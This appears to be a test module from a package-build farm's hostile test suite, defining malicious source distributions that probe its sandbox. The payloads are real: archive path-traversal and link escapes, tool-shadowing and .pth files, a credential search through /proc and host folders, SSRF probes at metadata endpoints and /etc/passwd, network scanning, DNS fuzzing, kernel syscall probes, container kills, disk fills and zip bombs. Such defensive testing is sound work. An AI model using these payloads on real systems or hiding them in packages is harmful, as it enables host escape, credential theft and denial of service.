"""Attacks by an sdist on the host and on other builds: before, while and after it is built. One run has all of them.

Most are probes: the build fails where it sees or reaches what it may not, so that its right verdict is `compatible`.
"""

from __future__ import annotations

import gzip
import os
import tarfile
from collections.abc import Callable
from typing import Any

from tests.hostile.attack import PASSWORD, Attack, Site, World, iter_files
from tests.hostile.attacks.building import module_name, place, project_files
from tests.hostile.sdists import Member, make_zip

Make = Callable[[Site], str]

BUILDS = ("compatible",)
REFUSED = ("build-failure",)
EITHER = ("compatible", "build-failure")
NOT_SERVED = ("build-failure", "abi-mismatch", "undetermined", "import-failure")


def building(code: str) -> Make:
    """Return a maker of a package that runs Python while it is built; `{secret}` and `{stolen}` are paths of the host."""

    def make(site: Site) -> str:
        return place(site, project_files(site.name, attack=_fill(code, site)))

    return make


def _fill(code: str, site: Site) -> str:
    return code.replace("{secret}", str(site.secret)).replace("{stolen}", str(site.stolen))


# --- 1: the host's interpreters ---------------------------------------------------------------------------------------

_MARK = """
try:
    open("{stolen}", "a").close()
except OSError:
    pass
"""
"""Leaves a mark where it runs on the host; in a container that folder is not there."""


def beside(*paths: str, text: str = _MARK) -> Make:
    """Return a maker of a package that builds, with files at its top that the host's tools might take for theirs."""

    def make(site: Site) -> str:
        files = project_files(site.name)
        for path in paths:
            files[path] = _fill(text, site).encode()
        return place(site, files)

    return make


def make_tool_options(site: Site) -> str:
    """Options for cibuildwheel in pyproject.toml, setup.cfg and variables' files."""
    files = project_files(site.name)
    options = f"""
[tool.cibuildwheel]
before-all = "touch {site.stolen}"
before-build = "exit 1"
container-engine = {{name = "docker", create-args = ["--volume={site.host}:/stolen"]}}
repair-wheel-command = "cp {{wheel}} {{dest_dir}} && touch {site.stolen}"
"""
    files["pyproject.toml"] += options.encode()
    files["setup.cfg"] = f"[options]\nsetup_requires = x @ file://{site.secret}\n".encode()
    files["cibuildwheel.toml"] = files[".env"] = options.encode()
    return place(site, files)


# --- 2: archives ------------------------------------------------------------------------------------------------------


def with_members(*make_members: Callable[[Site, str], Member]) -> Make:
    """Return a maker of a package that builds, with further members in its archive."""

    def make(site: Site) -> str:
        root = f"{site.name}-1.0"
        members = [make_member(site, root) for make_member in make_members]
        return place(site, project_files(site.name), *members)

    return make


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Callable[[Site, str], Member]:
    """Return a maker of a link; `{up}` leads to the host's folder, however deep the archive is unpacked."""

    def make(site: Site, root: str) -> Member:
        up = "../" * 30 + str(site.host).lstrip("/")
        filled = (
            target.replace("{host}", str(site.host)).replace("{up}", up).replace("{root}", root)
        )
        return Member(name.replace("{root}", root), kind=kind, target=filled)

    return make


def member(
    name: str, kind: bytes = tarfile.REGTYPE, mode: int = 0o644
) -> Callable[[Site, str], Member]:
    """Return a maker of any other member."""

    def make(site: Site, root: str) -> Member:
        up = "../" * 30 + str(site.host).lstrip("/")
        filled = name.replace("{host}", str(site.host)).replace("{up}", up).replace("{root}", root)
        return Member(filled, b"x" if kind == tarfile.REGTYPE else b"", kind=kind, mode=mode)

    return make


def make_long_links(site: Site) -> str:
    """Links whose resolved path is longer than the system takes, so that a check of it gives up half-way."""
    root = f"{site.name}-1.0"
    long_name = "n" * 247
    folder = root
    short = root
    members = []
    for step in "abcdefghijklmnop":
        members.append(Member(f"{folder}/{long_name}", kind=tarfile.DIRTYPE, mode=0o755))
        members.append(Member(f"{folder}/{step}", kind=tarfile.SYMTYPE, target=long_name))
        folder = f"{folder}/{long_name}"
        short = f"{short}/{step}"

    climbing = f"{short}/{'l' * 250}"
    members.append(Member(climbing, kind=tarfile.SYMTYPE, target="../" * 16))
    inner = climbing.removeprefix(f"{root}/")
    # As many steps up as the path has parts: what resolves it as text stays inside, and what follows links does not.
    target = f"{inner}/{'../' * 17}{str(site.host).lstrip('/')}"
    members.append(Member(f"{root}/out", kind=tarfile.SYMTYPE, target=target))
    members.append(Member(f"{root}/out/{site.stolen.name}", b"x"))
    return place(site, project_files(site.name), *members)


def make_many_members(site: Site) -> str:
    files = project_files(site.name)
    files |= {f"many/{number}": b"" for number in range(60_000)}
    return place(site, files)


def make_byte_names(site: Site) -> str:
    """Names that are no UTF-8, and names that are the same on some file systems, or twice the same."""
    root = f"{site.name}-1.0"
    odd = os.fsdecode(b"\xff\xfe\xe9")
    names = [
        f"{root}/{odd}",
        f"{root}/README",
        f"{root}/readme",
        f"{root}/README",
        f"{root}/a\nb",
        f"{root}/\x1b[2J",
    ]
    table = place(site, project_files(site.name), *(Member(name, b"x") for name in names[1:]))
    info = tarfile.TarInfo("placeholder")
    info.size = 0
    header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    raw = os.fsencode(names[0])
    header[: len(raw)] = raw
    header[len(raw) : 100] = bytes(100 - len(raw))
    header[148:156] = b"        "
    header[148:156] = b"%06o\0 " % sum(header)
    path = site.folder / f"{site.name}-1.0.tar.gz"
    content = gzip.decompress(path.read_bytes())
    path.write_bytes(gzip.compress(bytes(header) + content, mtime=0))
    return table


def zip_with(*names: str) -> Make:
    """Return a maker of an sdist that is a zip, with members that lead out of it."""

    def make(site: Site) -> str:
        root = f"{site.name}-1.0"
        up = "../" * 30 + str(site.host).lstrip("/")
        files = {f"{root}/{path}": content for path, content in project_files(site.name).items()}
        for name in names:
            files[
                name.replace("{root}", root).replace("{up}", up).replace("{host}", str(site.host))
            ] = b"x"
        filename = f"{site.name}-1.0.zip"
        (site.folder / filename).write_bytes(make_zip(files))
        return f'sdist = "{filename}"'

    return make


# --- 3: what comes out ------------------------------------------------------------------------------------------------

_OUTPUT = """
import os, subprocess, sys, time
os.makedirs("/output", exist_ok=True)
first = f"/output/{NAME}-1.0-cp314-cp314-manylinux_2_17_x86_64.whl"
second = f"/output/{NAME}-1.0-1-cp314-cp314-manylinux_2_17_x86_64.whl"
def later(code):
    '''Run code beside the build for as long as its container is there.'''
    subprocess.Popen([sys.executable, "-c", code, first, second], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
REPEAT = '''
import os, sys, time
first, second = sys.argv[1:]
for _ in range(3000):
    try:
        if not os.path.lexists(second):
            act()
    except OSError:
        pass
    time.sleep(0.01)
'''
"""


def output(act: str) -> Make:
    """Return a maker of a package that puts something beside its wheel, again and again while its container is there.

    Args:
        act: Python that makes the path `second`.
    """
    code = f"{_OUTPUT}\nlater('''def act():\n    {act}\n''' + REPEAT)\n"
    return building(code)


def check_one_wheel(world: World) -> None:
    """The index has at most the package's one wheel, and it is a real one."""
    for path in (world.wheelhouse / "simple").rglob("*"):
        assert path.is_dir() or path.is_file(), f"{path} is no file"
        assert not path.is_file() or path.stat().st_size < 1 << 20, f"{path.name} is huge"
    for folder in (world.wheelhouse / "simple").iterdir():
        if folder.is_dir():
            wheels = [path.name for path in folder.rglob("*.whl")]
            assert len(wheels) <= 1, f"{folder.name} has {wheels}"
            assert all(name.startswith(f"{module_name(folder.name)}-1.0") for name in wheels), (
                wheels
            )


# --- 5: network, capabilities, kernel ---------------------------------------------------------------------------------

_RAW = """
import socket, sys
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_DGRAM)):
    for protocol in (1, 3, 255):
        try:
            socket.socket(family, kind, protocol)
        except OSError:
            continue
        sys.exit(f"a raw socket: {family.name}")
"""

_FIND_PROXY = """
import os, socket, urllib.parse
address = urllib.parse.urlsplit(os.environ.get("http_proxy") or os.environ["PIP_INDEX_URL"])
proxy = socket.gethostbyname(address.hostname)
"""
"""Finds the index proxy, which is the name server too. The engine may put a name server of its own before it."""

_MEET = (
    _FIND_PROXY
    + """
import socket, sys, threading, time
port = 47123
met = []
def serve():
    server = socket.create_server(("", port))
    while True:
        _, (address, _) = server.accept()
        if address != own:
            met.append(address)
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect((proxy, 53))
own = probe.getsockname()[0]
threading.Thread(target=serve, daemon=True).start()
prefix = own.rpartition(".")[0]
deadline = time.monotonic() + 25
while time.monotonic() < deadline and not met:
    for number in range(1, 40):
        address = f"{prefix}.{number}"
        if address == own:
            continue
        client = socket.socket()
        client.settimeout(0.05)
        try:
            client.connect((address, port))
            met.append(address)
        except OSError:
            pass
        client.close()
    time.sleep(0.2)
if met:
    sys.exit(f"met a neighbour at {met[0]}")
"""
)

_DEVICES = """
import os, stat, sys
for path, mode, device in (("disk", stat.S_IFBLK, os.makedev(8, 0)), ("memory", stat.S_IFCHR, os.makedev(1, 1)), ("kernel", stat.S_IFCHR, os.makedev(1, 11))):
    try:
        os.mknod(f"/tmp/{path}", mode | 0o600, device)
        os.open(f"/tmp/{path}", os.O_RDONLY)
    except OSError:
        continue
    sys.exit(f"opened a device node: {path}")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/sys/net/ipv4/ip_forward", "/sys/fs/cgroup/release_agent"):
    try:
        os.close(os.open(path, os.O_WRONLY))
    except OSError:
        continue
    sys.exit(f"may write {path}")
"""

_CALLS = """
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
calls = {"bpf": (321, 0, 0, 0), "keyctl": (250, 0, -3, 0), "userfaultfd": (323, 0), "io_uring_setup": (425, 1, 0), "mount": (165, 0, 0, 0, 0, 0), "unshare": (272, 0x10000000), "perf_event_open": (298, 0, 0, 0, 0, 0), "add_key": (248, 0, 0, 0, 0, 0), "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, 0, 0, 0), "setns": (308, -1, 0), "open_by_handle_at": (304, -1, 0, 0)}
for name, arguments in calls.items():
    result = libc.syscall(*arguments)
    if result >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
        sys.exit(f"the kernel answered {name}: {result}, {errno.errorcode.get(ctypes.get_errno())}")
"""

_IPV6 = """
import sys
try:
    lines = open("/proc/net/if_inet6").read().splitlines()
except OSError:
    lines = []
others = [line for line in lines if not line.endswith(" lo")]
if others:
    sys.exit(f"an IPv6 address: {others[0]}")
"""

_NAMES = (
    _FIND_PROXY
    + """
import random, struct, sys
server = proxy
odd = [b"", b"x", b"\\0" * 11, b"\\xff" * 512, b"\\0" * 12, struct.pack(">HHHHHH", 1, 256, 65535, 0, 0, 0)]
odd += [struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + end for end in (b"\\xc0\\x0c", b"\\xc0\\x0c\\0\\1\\0\\1", b"\\x3f" + b"a" * 10, b"\\1" * 400, b"\\xc0", b"\\xff\\xff", b"\\3\\xff\\xfe\\xfd\\0\\0\\1\\0\\1", b"\\x41" * 300)]
random.seed(1)
odd += [random.randbytes(random.randrange(1, 600)) for _ in range(500)]
for packet in odd:
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.sendto(packet, (server, 53))
    client.close()
query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\4name\\7invalid\\0\\0\\1\\0\\1"
for _ in range(20):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(1)
    client.sendto(query, (server, 53))
    try:
        client.recv(512)
    except OSError:
        continue
    break
else:
    sys.exit("the name server answers no more")
"""
)

_CROWD = (
    _FIND_PROXY
    + """
import time
held = []
for _ in range(3000):
    try:
        client = socket.create_connection((address.hostname, address.port), 2)
        client.sendall(b"GET / HTTP/1.1\\r\\nX: ")
        held.append(client)
    except OSError:
        break
time.sleep(8)
"""
)

_PROXY = (
    _FIND_PROXY
    + """
import http.client, sys
for target in ("http://127.0.0.1:5000/", "http://localhost/", "file:///etc/passwd", "http://169.254.169.254/", "http://[::1]/", "/../../../../etc/passwd", "/simple/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "http://neighbour.invalid/"):
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=10)
    try:
        connection.request("GET", target)
        status = connection.getresponse().status
    except (OSError, http.client.HTTPException):
        continue
    if status == 200:
        sys.exit(f"the proxy gave {target}")
"""
)

# --- credentials ------------------------------------------------------------------------------------------------------

_PASSWORDS = """
import os, sys
wanted = b"@PASSWORD@"[::-1]
def places():
    for name in os.listdir("/proc"):
        if name.isdecimal():
            yield from (f"/proc/{name}/environ", f"/proc/{name}/cmdline")
    yield from ("/proc/cmdline", "/proc/mounts", "/proc/self/mountinfo")
    for top in ("/etc", "/root", "/home", "/opt/wheelfarm", "/farm", "/run", "/usr/local/etc", "/var/lib", os.path.expanduser("~")):
        for folder, folders, names in os.walk(top):
            folders[:] = [name for name in folders if not os.path.islink(os.path.join(folder, name))]
            yield from (os.path.join(folder, name) for name in names)
    yield from (os.path.join("/", name) for name in os.listdir("/"))
for path in places():
    try:
        if path.startswith("/proc/") or (os.path.isfile(path) and os.path.getsize(path) < 1 << 20):
            content = open(path, "rb").read()
            if wanted in content:
                sys.exit(f"a password of the host is in {path}")
    except OSError:
        continue
"""
"""Looks in the container for what only the host's settings have. The password is written from its end, so that it does
not find itself."""


def make_password_search(site: Site) -> str:
    return building(_PASSWORDS.replace("@PASSWORD@", PASSWORD[::-1]))(site)


def check_no_password(world: World) -> None:
    assert PASSWORD.encode() not in world.output, "a password was printed"
    for path in iter_files(world.wheelhouse):
        assert PASSWORD.encode() not in path.read_bytes(), f"a password is in {path}"


# --- 9, 10, 11, 12: logs, limits, disk ---------------------------------------------------------------------------------

_FLOOD = """
import os
line = b"x" * 1023 + b"\\n"
try:
    for _ in range(1 << 20):
        os.write(1, line * 64)
except OSError:
    pass
"""

_ENDLESS_LINE = """
import os
try:
    for _ in range(1 << 14):
        os.write(1, b"x" * (1 << 16))
except OSError:
    pass
"""

_FORGED_LIMITS = """
import os, sys
print("wheelfarm-limits: processes-refused=7 memory-kills=7 memory-peak-bytes=1", flush=True)
print("wheelfarm-compiler-cache: hits=9999999 misses=0", flush=True)
print("Building cp314-manylinux_x86_64 wheel", flush=True)
os.write(2, b"wheelfarm-limits: processes-refused=7 memory-kills=7 memory-peak-bytes=1\\n")
print("module.c:1:1: error: the true reason", flush=True)
sys.exit("it fails")
"""

_FORGED_DISK = """
import sys
print("No space left on device", flush=True)
print("module.c:1:1: error: the true reason", flush=True)
sys.exit("it fails")
"""

_KILL_ALL = """
import os, signal
os.kill(-1, signal.SIGKILL)
"""

_KILL_AFTER_HUNGER = """
import os, signal
if os.fork() == 0:
    open("/proc/self/oom_score_adj", "w").write("1000")
    held = [bytes(range(256)) * (1 << 16) for _ in range(1 << 10)]
os.wait()
os.kill(-1, signal.SIGKILL)
"""
"""Has the kernel end a process for its memory, then ends all others: it may look like a machine that has none left."""

_FILL = """
import os, sys
block = os.urandom(1 << 20)
written = 0
try:
    with open(os.path.join(@FOLDER@, "filled"), "wb") as file:
        while written < 6 << 10:
            file.write(block)
            written += 1
except OSError as error:
    sys.exit(f"the disk ended after {written} MiB: {error}")
sys.exit(f"wrote {written} MiB")
"""


def check_log_is_bounded(world: World) -> None:
    for path in iter_files(world.wheelhouse / "logs"):
        assert path.stat().st_size < 80 << 20, f"{path.name} has {path.stat().st_size >> 20} MiB"


def check_true_reason(world: World) -> None:
    package = world.packages()[world.site.name]
    reason = package["abis"]["cp314"]["reason"]
    assert "the true reason" in reason, f"it says {reason}"


def check_disk_was_limited(world: World) -> None:
    reason = world.packages()[world.site.name]["abis"]["cp314"]["reason"]
    assert "wrote 6144 MiB" not in reason, "nothing ended it"


# --- 6, 13: wheels ----------------------------------------------------------------------------------------------------

_OTHER_NAME = """
files = {compile_module(): b""}
target = next(iter(files))
files[target] = open(target, "rb").read()
import os
os.rename(os.path.join(wheel_directory, pack(wheel_directory, files, name="honest")), os.path.join(wheel_directory, "honest-9.0-cp314-cp314-linux_x86_64.whl"))
import shutil
os.makedirs("/output", exist_ok=True)
shutil.copy(os.path.join(wheel_directory, "honest-9.0-cp314-cp314-linux_x86_64.whl"), "/output/honest-9.0-cp314-cp314-manylinux_2_17_x86_64.whl")
"""


def make_other_metadata(site: Site) -> str:
    """A wheel whose file name is the package's, and whose metadata are another's."""
    files = project_files(site.name)
    files["backend.py"] = files["backend.py"].replace(
        b"return pack(wheel_directory, wheel_files())",
        b'return pack(wheel_directory, wheel_files(), name="honest")',
    )
    return place(site, files)


def make_returned_path(site: Site) -> str:
    """A backend that returns a path as the name of its wheel."""
    files = project_files(site.name)
    files["backend.py"] += f"""
_build_wheel = build_wheel
def build_wheel(*arguments):
    name = _build_wheel(*arguments)
    return "../../../../../../{str(site.stolen).lstrip("/")}\\n" + name
""".encode()
    return place(site, files)


def bomb(code: str) -> Make:
    """Return a maker of a package whose wheel has further members, which Python adds to the wheel `archive`."""

    def make(site: Site) -> str:
        files = project_files(site.name)
        files["backend.py"] += f"""
_build_wheel = build_wheel
def build_wheel(wheel_directory, *arguments):
    name = _build_wheel(wheel_directory, *arguments)
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        {code}
    return name
""".encode()
        return place(site, files)

    return make


def check_small_index(world: World) -> None:
    for path in (world.wheelhouse / "simple").rglob("*.whl"):
        assert path.stat().st_size < 1 << 20, f"{path.name} is served"


QUICK = frozenset(
    {
        "tool-as-a-folder",
        "tools-import-as-a-file",
        "typing-as-a-file",
        "tool-options",
        "over-long-links",
        "member-below-a-link",
        "hard-link-outside",
        "sixty-thousand-members",
        "output-link",
        "output-pipe",
        "output-twice",
        "raw-socket",
        "system-calls",
        "wheel-of-another",
        "forged-full-disk",
        "kills-its-container",
        "looks-for-passwords",
    }
)
"""Attacks that `make test` runs too: one or two for each kind of wall."""


def _attack(
    name: str, point: str, make: Make, verdicts: tuple[str, ...], checked: str, **fields: Any
) -> Attack:
    return Attack(
        name=name,
        quick=name in QUICK,
        point=point,
        kind="sdist",
        make=make,
        verdicts=verdicts,
        checked=checked,
        **{"seconds": 300.0, **fields},
    )


_HOST = "files of the host"
_OUT = "files of the host, what is served"
_NET = "network of neighbours, the kernel"
_DISK = "disk and time of the farm"

ATTACKS = (
    # 1
    _attack("tool-as-a-folder", "1", beside("cibuildwheel/__init__.py", "cibuildwheel/__main__.py"), EITHER, _HOST),
    _attack("tools-import-as-a-file", "1", beside("bashlex.py", "docker.py", "tomli_w.py"), EITHER, _HOST),
    _attack("packaging-as-a-folder", "1", beside("packaging/__init__.py", "packaging/version.py"), EITHER, _HOST),
    _attack("typing-as-a-file", "1", beside("typing.py", "platform.py"), EITHER, _HOST),
    _attack("sitecustomize", "1", beside("sitecustomize.py", "usercustomize.py"), ("abi-mismatch",), _HOST, codes=("WF334",)),
    _attack("path-file", "1", beside("x.pth", text="import os; open('{stolen}', 'a')"), EITHER, _HOST),
    _attack("tool-options", "1", make_tool_options, EITHER, _HOST),
    # 2
    _attack("over-long-links", "2", make_long_links, REFUSED, _HOST, codes=("WF105",)),
    _attack("member-below-a-link", "2", with_members(link("{root}/out", "{up}"), member("{root}/out/written-by-an-attack")), REFUSED, _HOST, codes=("WF105",)),
    _attack("link-below-a-link", "2", with_members(link("{root}/a", "."), link("{root}/a/b", ".."), link("{root}/a/b/c", "../.."), member("{root}/a/b/c/{up}/written-by-an-attack")), REFUSED, _HOST, codes=("WF105",)),
    _attack("hard-link-outside", "2", with_members(link("{root}/got", "{host}/secret", tarfile.LNKTYPE)), REFUSED, _HOST, codes=("WF105",)),
    _attack("hard-link-upwards", "2", with_members(link("{root}/got", "{root}/{up}/secret", tarfile.LNKTYPE)), REFUSED, _HOST, codes=("WF105",)),
    _attack("member-upwards", "2", with_members(member("{root}/{up}/written-by-an-attack")), REFUSED, _HOST, codes=("WF105",)),
    _attack("absolute-member", "2", with_members(member("{host}/written-by-an-attack")), EITHER, _HOST),
    _attack("device-member", "2", with_members(member("{root}/disk", tarfile.BLKTYPE)), REFUSED, _HOST, codes=("WF105",)),
    _attack("fifo-member", "2", with_members(member("{root}/pipe", tarfile.FIFOTYPE)), REFUSED, _HOST, codes=("WF105",)),
    _attack("set-user-id-member", "2", with_members(member("{root}/program", mode=0o6755)), EITHER, _HOST),
    _attack("sixty-thousand-members", "2", make_many_members, REFUSED, _HOST, codes=("WF105",)),
    _attack("odd-member-names", "2", make_byte_names, EITHER, _HOST),
    _attack("zip-upwards", "2", zip_with("{root}/{up}/written-by-an-attack"), REFUSED, _HOST, codes=("WF105",)),
    # 3
    _attack("output-link", "3", output("os.symlink('{secret}', second)"), EITHER, _OUT, check=check_one_wheel),
    _attack("output-pipe", "3", output("os.mkfifo(second)"), EITHER, _OUT, check=check_one_wheel),
    _attack("output-device", "3", output("os.mknod(second, 0o060666, os.makedev(8, 0))"), EITHER, _OUT, check=check_one_wheel),
    _attack("output-sparse", "3", output("os.truncate(os.open(second, os.O_CREAT | os.O_WRONLY), 1 << 40)"), EITHER, _OUT, check=check_one_wheel),
    _attack("output-twice", "3", output("import shutil; shutil.copy(first, second)"), EITHER, _OUT, check=check_one_wheel),
    _attack("output-folder-is-a-link", "3", output("import shutil; shutil.rmtree('/output'); os.symlink('/etc', '/output')"), NOT_SERVED + BUILDS, _OUT, check=check_one_wheel),
    _attack("output-newline", "3", output("open(second.replace('-1-cp314', '-1_\\\\n-cp314'), 'w').close()"), EITHER, _OUT, check=check_one_wheel),
    _attack("returned-path", "3", make_returned_path, REFUSED, _OUT),
    # 5
    _attack("raw-socket", "5", building(_RAW), BUILDS, _NET),
    _attack("meets-others", "5", building(_MEET), BUILDS, _NET),
    _attack("meets-another", "5", building(_MEET), BUILDS, _NET),
    _attack("device-nodes", "5", building(_DEVICES), BUILDS, _NET),
    _attack("system-calls", "5", building(_CALLS), BUILDS, _NET),
    _attack("ipv6", "5", building(_IPV6), BUILDS, _NET),
    _attack("name-server", "5", building(_NAMES), BUILDS, _NET),
    _attack("proxy-crowd", "medium", building(_CROWD), EITHER, _NET),
    _attack("proxy-as-a-door", "medium", building(_PROXY), BUILDS, _NET),
    _attack("looks-for-passwords", "medium", make_password_search, BUILDS, "passwords of proxies, indexes and uploads", check=check_no_password),
    # 6, 13
    _attack("wheel-of-another", "6", building(_OTHER_NAME), NOT_SERVED + BUILDS, _OUT, check=check_one_wheel),
    _attack("metadata-of-another", "6", make_other_metadata, NOT_SERVED, _OUT, check=check_one_wheel),
    _attack("wheel-of-three-gigabytes", "13", bomb("archive.open('zeros', 'w', force_zip64=True).writelines(bytes(1 << 20) for _ in range(3 << 10))"), NOT_SERVED, _DISK, check=check_small_index),
    _attack("wheel-of-countless-members", "13", bomb("[archive.writestr(f'x/{n}', b'') for n in range(110_000)]"), NOT_SERVED, _DISK, check=check_small_index),
    # 9 to 12
    _attack("log-flood", "12", building(_FLOOD), REFUSED, _DISK, check=check_log_is_bounded),
    _attack("log-without-lines", "12", building(_ENDLESS_LINE), EITHER, _DISK, check=check_log_is_bounded),
    _attack("forged-limits", "medium", building(_FORGED_LIMITS), REFUSED, "the finding", check=check_true_reason),
    _attack("forged-full-disk", "medium", building(_FORGED_DISK), REFUSED, "the finding", check=check_true_reason),
    _attack("kills-its-container", "10", building(_KILL_ALL), REFUSED, "the neighbours' verdicts", codes=("WF218",)),
    _attack("starves-its-container", "10", building(_KILL_AFTER_HUNGER), REFUSED, "the finding", codes=("WF204", "WF218")),
    _attack("fills-the-disk", "11", building(_FILL.replace("@FOLDER@", '"/tmp"')), NOT_SERVED, _DISK, check=check_disk_was_limited),
    _attack("fills-the-root", "11", building(_FILL.replace("@FOLDER@", '"/var/tmp"')), NOT_SERVED, _DISK, check=check_disk_was_limited),
    _attack("fills-the-compiler-cache", "11", building(_FILL.replace("@FOLDER@", 'os.environ["CCACHE_DIR"]')), NOT_SERVED, _DISK, check=check_disk_was_limited),
)  # fmt: skip
